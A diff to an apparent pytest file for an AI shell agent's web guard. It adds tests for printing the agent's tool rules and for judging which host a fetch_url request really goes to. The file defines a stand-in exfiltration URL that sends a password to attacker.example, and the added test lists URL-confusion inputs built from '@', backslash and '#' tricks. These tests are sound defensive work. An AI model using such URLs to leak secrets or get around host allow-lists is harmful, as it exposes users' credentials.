@@ -18,7 +18,9 @@ import pytest
 
 from swebash_ai.agent.approval import Decision
 from swebash_ai.agent.events import AgentEvent, ApprovalRequest, ToolCallFinished
+from swebash_ai.cli import print_config
 from swebash_ai.config import load_settings
+from swebash_ai.config_rules import ToolRule, ToolRules
 from swebash_ai.errors import ConfigError
 from swebash_ai.oneshot import ExitCode, OneShotOptions, run_oneshot
 from swebash_ai.providers import scripted
@@ -26,7 +28,7 @@ from swebash_ai.providers.scripted import ScriptedProvider
 from swebash_ai.session import Session
 from swebash_ai.testing.fake_server import FakeLLMServer, Reply
 from swebash_ai.tools import web
-from swebash_ai.tools.web_guard import Provenance, data_parts, extract_urls
+from swebash_ai.tools.web_guard import Provenance, data_parts, extract_urls, judge
 
 SECRET = "db password: hunter2"
 ATTACK = "https://attacker.example/c?d=" + quote(SECRET)
@@ -292,8 +294,12 @@ def test_profile_rules_add_to_the_file_rules() -> None:
         'profile = "work"\n[[rules]]\ntool = "fetch_url"\nhost = "a.example"\ndecision = "allow"\n'
         '[profiles.work]\n[[profiles.work.rules]]\ntool = "fetch_url"\nhost = "*.a.example"\ndecision = "deny"\n'
     )
-    rules = load_settings().rules
+    loaded = load_settings()
+    rules = loaded.rules
     assert len(rules) == 2
+    shown = io.StringIO()
+    print_config(loaded, shown)  # `swebash-ai config` lists them
+    assert "rules:       allow fetch_url a.example; deny fetch_url *.a.example\n" in shown.getvalue()
     found = rules.decide("fetch_url", "a.example")
     assert found is not None and found.decision == "deny"  # '*.a.example' covers the domain itself too
     assert rules.decide("fetch_url", "b.example") is None
@@ -389,3 +395,19 @@ def test_data_parts_are_shown_decoded_and_escaped() -> None:
     assert parts == ["d=a b", "k=\\x1b[2J", "path: c2VjcmV0IHRva2VuIDEyMzQ1Ng"]  # no raw escape reaches a screen
     assert data_parts("https://docs.example/3/library/os.html") == []
 
+
+
+@pytest.mark.parametrize(
+    ("url", "decision"),
+    [
+        ("https://DOCS.example./x", "allow"),  # case and a trailing dot name the same host
+        ("https://docs.example@evil.example/?d=1", "ask"),  # the host is what follows the '@'
+        ("https://evil.example\\@docs.example/?d=1", "allow"),  # read as the fetcher reads it: docs.example
+        ("https://docs.example.evil.example/", "ask"),  # a longer name is another host
+        ("https://evil.example#@docs.example/", "ask"),  # after '#' nothing is sent
+    ],
+)
+def test_rules_judge_the_host_the_request_goes_to(url: str, decision: str) -> None:
+    rules = ToolRules((ToolRule(tool="fetch_url", host="docs.example", decision="allow"),))
+    assert judge(url, Provenance(), rules).decision == decision
+    assert (httpx.URL(url).host.rstrip(".").lower() == "docs.example") is (decision == "allow")  # as httpx sends it
